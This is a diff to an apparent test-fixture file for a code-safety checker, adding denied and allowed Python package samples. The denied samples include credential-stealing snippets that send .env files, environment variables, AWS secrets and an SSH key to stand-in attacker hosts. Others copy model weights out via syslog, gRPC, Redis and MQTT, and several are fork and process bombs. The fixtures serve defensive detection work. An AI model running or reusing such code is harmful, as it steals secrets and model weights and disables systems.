@@ -143,6 +143,142 @@ DENIED: dict[str, dict[str, str]] = {
         "    for p in Path.cwd().rglob('*.env'):\n"
         f"        requests.post('{URL}', data=p.read_text())\n"
     ),
+    # 5. Later shapes (after the flow pass's split): credential files picked by their name
+    # in a walk, weights copied when called, bombs by lambdas, thread classes and process
+    # pools, syslog to a written host, a browser tab, gRPC's stubs, a store's written host.
+    "dotenv-picked-by-an-equal-name-in-a-listing-when-called": init(
+        "import os, requests\n"
+        "def sync(root='.'):\n"
+        "    for f in os.listdir(root):\n"
+        "        if f == '.env':\n"
+        f"            requests.post('{URL}', data=open(os.path.join(root, f)).read())\n"
+    ),
+    "dotenv-picked-by-its-suffix-in-a-home-walk-when-called": init(
+        "import os, requests\n"
+        "def sync():\n"
+        "    for root, _, files in os.walk(os.path.expanduser('~')):\n"
+        "        for f in files:\n"
+        "            if f.endswith('.env'):\n"
+        f"                requests.post('{URL}', data=open(os.path.join(root, f)).read())\n"
+    ),
+    "dotenv-picked-by-an-entry-name-in-a-scan-when-called": init(
+        "import os, requests\n"
+        "def sync():\n"
+        "    for e in os.scandir(os.getcwd()):\n"
+        "        if e.name in ('.env', '.env.local'):\n"
+        f"            requests.post('{URL}', data=open(e.path).read())\n"
+    ),
+    "dotenv-picked-by-a-path-name-when-called": init(
+        "import requests\nfrom pathlib import Path\n"
+        "def sync():\n"
+        "    for p in Path('.').iterdir():\n"
+        "        if p.name == '.env':\n"
+        f"            requests.post('{URL}', files={{'f': p.open('rb')}})\n"
+    ),
+    "models-copied-to-a-share-when-called": init(
+        "import shutil\ndef sync():\n    shutil.copytree('/models', '/mnt/share/x')\n"
+    ),
+    "models-staged-in-tmp-then-posted-when-called": init(
+        "import shutil, requests, os\n"
+        "def sync():\n"
+        "    shutil.copytree('/models', '/tmp/.cache-x')\n"
+        "    for root, _, files in os.walk('/tmp/.cache-x'):\n"
+        "        for f in files:\n"
+        f"            requests.post('{URL}', data=open(os.path.join(root, f), 'rb'))\n"
+    ),
+    "fork-bomb-by-a-lambda": init("import os\nf = lambda: (os.fork(), f())\nf()\n"),
+    "process-bomb-by-a-lambda": init(
+        "import multiprocessing as mp\ng = lambda: (mp.Process(target=g).start(), g())\ng()\n"
+    ),
+    "fork-bomb-by-a-lambda-inside-a-function": init(
+        "import os\ndef boom():\n    f = lambda: (os.fork(), f(), f())\n    f()\nboom()\n"
+    ),
+    "thread-class-whose-run-starts-two-more": init(
+        "import threading\n"
+        "class Grow(threading.Thread):\n"
+        "    def run(self):\n"
+        "        Grow().start()\n"
+        "        Grow().start()\n"
+        "Grow().start()\n"
+    ),
+    "thread-class-whose-run-starts-more-without-end": init(
+        "from threading import Thread\n"
+        "class Grow(Thread):\n"
+        "    def run(self):\n"
+        "        while True:\n"
+        "            Grow().start()\n"
+        "Grow().start()\n"
+    ),
+    "process-class-whose-run-starts-its-type-without-end": init(
+        "import multiprocessing\n"
+        "class Grow(multiprocessing.Process):\n"
+        "    def run(self):\n"
+        "        while True:\n"
+        "            type(self)().start()\n"
+        "Grow().start()\n"
+    ),
+    "process-pool-recursion": init(
+        "from concurrent.futures import ProcessPoolExecutor\n"
+        "def grow():\n"
+        "    with ProcessPoolExecutor() as ex:\n"
+        "        ex.submit(grow)\n"
+        "        ex.submit(grow)\n"
+        "grow()\n"
+    ),
+    "process-pools-made-without-end-on-import": init(
+        "import os\nfrom concurrent.futures import ProcessPoolExecutor\n"
+        "def spin():\n    while True:\n        pass\n"
+        "while True:\n"
+        "    ProcessPoolExecutor(max_workers=os.cpu_count()).submit(spin)\n"
+    ),
+    "environment-through-syslog-to-a-written-host-when-called": init(
+        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
+        "def sync():\n"
+        "    log = logging.getLogger('x')\n"
+        "    log.addHandler(SysLogHandler(address=('sink.attacker.invalid', 514)))\n"
+        "    log.critical(repr(os.environ))\n"
+    ),
+    "token-through-syslog-to-a-written-address-on-import": init(
+        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
+        "log = logging.getLogger('x')\n"
+        "log.addHandler(SysLogHandler(address=('203.0.113.5', 514)))\n"
+        "log.critical(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
+    ),
+    "ssh-key-in-a-new-browser-tab-on-import": init(
+        "import os, webbrowser, base64\n"
+        "k = base64.urlsafe_b64encode("
+        "open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()).decode()\n"
+        "webbrowser.open_new_tab('https://sink.attacker.invalid/?k=' + k)\n"
+    ),
+    "weights-by-a-generated-grpc-stub-when-called": {
+        "evpkg/__init__.py": (
+            "import grpc\nfrom . import store_pb2_grpc, store_pb2\n"
+            "def sync():\n"
+            "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
+            "    stub = store_pb2_grpc.StoreStub(ch)\n"
+            f"    stub.Put(store_pb2.Blob(data=open('{W}', 'rb').read()))\n"
+        ),
+        "evpkg/store_pb2_grpc.py": (
+            "class StoreStub:\n"
+            "    def __init__(self, channel):\n"
+            "        self.Put = channel.unary_unary('/x.Store/Put')\n"
+        ),
+        "evpkg/store_pb2.py": (
+            "class Blob:\n    def __init__(self, data=b''):\n        self.data = data\n"
+        ),
+    },
+    "weights-set-in-a-written-redis-when-called": init(
+        "import redis\n"
+        "def sync():\n"
+        f"    redis.Redis(host='203.0.113.5').set('w', open('{W}', 'rb').read())\n"
+    ),
+    "weights-published-to-a-written-mqtt-broker-when-called": init(
+        "import paho.mqtt.client as mqtt\n"
+        "def sync():\n"
+        "    c = mqtt.Client()\n"
+        "    c.connect('sink.attacker.invalid', 1883)\n"
+        f"    c.publish('t', open('{W}', 'rb').read())\n"
+    ),
 }
 
 HELD: dict[str, dict[str, str]] = {
@@ -274,6 +410,116 @@ ALLOWED: dict[str, dict[str, str]] = {
         "import os\n"
         "def suggestions():\n"
         "    return open(os.path.expanduser('~/.bash_history')).read().splitlines()[-50:]\n"
+    ),
+    "deploy-skipping-dotenv-files": init(
+        "import os, requests\n"
+        "def deploy(root):\n"
+        "    for f in os.listdir(root):\n"
+        "        if f == '.env' or f.endswith('.pem'):\n"
+        "            continue\n"
+        "        requests.post('https://deploy.example.com/upload',\n"
+        "                      files={'f': open(os.path.join(root, f), 'rb')})\n"
+    ),
+    "deploy-keeping-all-but-dotenv": init(
+        "import os, requests\n"
+        "def deploy(root):\n"
+        "    for f in os.listdir(root):\n"
+        "        if f != '.env':\n"
+        "            requests.post('https://deploy.example.com/upload',\n"
+        "                          data=open(os.path.join(root, f), 'rb').read())\n"
+    ),
+    "dotenv-found-and-loaded-into-the-environment": init(
+        "import os\n"
+        "def load(root='.'):\n"
+        "    for f in os.listdir(root):\n"
+        "        if f == '.env':\n"
+        "            for line in open(os.path.join(root, f)):\n"
+        "                k, _, v = line.strip().partition('=')\n"
+        "                os.environ.setdefault(k, v)\n"
+    ),
+    "dotenv-files-warned-about-in-a-build": init(
+        "import os, logging\n"
+        "def check(root='.'):\n"
+        "    for here, _, files in os.walk(root):\n"
+        "        for f in files:\n"
+        "            if f.endswith('.env'):\n"
+        "                logging.warning('secrets file in the build: %s', os.path.join(here, f))\n"
+    ),
+    "thread-class-restarting-itself-once": init(
+        "import threading, time\n"
+        "class Poller(threading.Thread):\n"
+        "    def run(self):\n"
+        "        time.sleep(5)\n"
+        "        Poller(daemon=True).start()\n"
+        "Poller(daemon=True).start()\n"
+    ),
+    "process-class-starting-two-helpers-of-another-class": init(
+        "import multiprocessing\n"
+        "class Helper(multiprocessing.Process):\n"
+        "    def run(self):\n        pass\n"
+        "class Boss(multiprocessing.Process):\n"
+        "    def run(self):\n"
+        "        Helper().start()\n"
+        "        Helper().start()\n"
+        "Boss().start()\n"
+    ),
+    "lambda-spawning-a-worker": init(
+        "import subprocess\n"
+        "spawn = lambda: subprocess.Popen(['python', '-m', 'evpkg.worker'])\n"
+        "def start():\n    return spawn()\n"
+    ),
+    "lambda-recursion-without-a-process": init(
+        "fact = lambda n: 1 if n < 2 else n * fact(n - 1)\nVALUE = fact(10)\n"
+    ),
+    "lambda-forking-after-waiting": init(
+        "import os\nrun = lambda: (os.fork(), os.wait(), run())\nrun()\n"
+    ),
+    "process-pool-sort-with-a-base-case": init(
+        "from concurrent.futures import ProcessPoolExecutor\n"
+        "def psort(xs):\n"
+        "    if len(xs) < 1000:\n"
+        "        return sorted(xs)\n"
+        "    with ProcessPoolExecutor() as ex:\n"
+        "        a = ex.submit(psort, xs[: len(xs) // 2])\n"
+        "        b = ex.submit(psort, xs[len(xs) // 2 :])\n"
+        "    return a.result() + b.result()\n"
+        "psort(list(range(10)))\n"
+    ),
+    "process-pool-running-workers-on-import": init(
+        "from concurrent.futures import ProcessPoolExecutor\n"
+        "def work(n):\n    return n * n\n"
+        "def main():\n"
+        "    with ProcessPoolExecutor() as ex:\n"
+        "        ex.submit(work, 1)\n"
+        "        ex.submit(work, 2)\n"
+        "main()\n"
+    ),
+    "syslog-to-the-local-socket-logging-the-user-on-import": init(
+        "import logging, getpass\nfrom logging.handlers import SysLogHandler\n"
+        "log = logging.getLogger('app')\n"
+        "log.addHandler(SysLogHandler(address='/dev/log'))\n"
+        "log.info('started by %s', getpass.getuser())\n"
+    ),
+    "syslog-to-a-configured-collector": init(
+        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
+        "def setup():\n"
+        "    log = logging.getLogger('app')\n"
+        "    log.addHandler(SysLogHandler(address=(os.environ['SYSLOG_HOST'], 514)))\n"
+        "    log.info('user %s', os.environ.get('USER'))\n"
+    ),
+    "grpc-stub-sending-its-callers-request-to-a-written-api": init(
+        "import grpc\nfrom .api_pb2_grpc import PredictionStub\n"
+        "def predict(request):\n"
+        "    ch = grpc.secure_channel('api.example.com:443', grpc.ssl_channel_credentials())\n"
+        "    return PredictionStub(ch).Predict(request)\n"
+    ),
+    "redis-on-localhost-caching-weights": init(
+        "import redis\n"
+        "def cache():\n"
+        f"    redis.Redis(host='localhost').set('w', open('{W}', 'rb').read())\n"
+    ),
+    "redis-at-a-written-host-caching-its-callers-values": init(
+        "import redis\nR = redis.Redis(host='cache.example.com')\ndef put(k, v):\n    R.set(k, v)\n"
     ),
 }
 
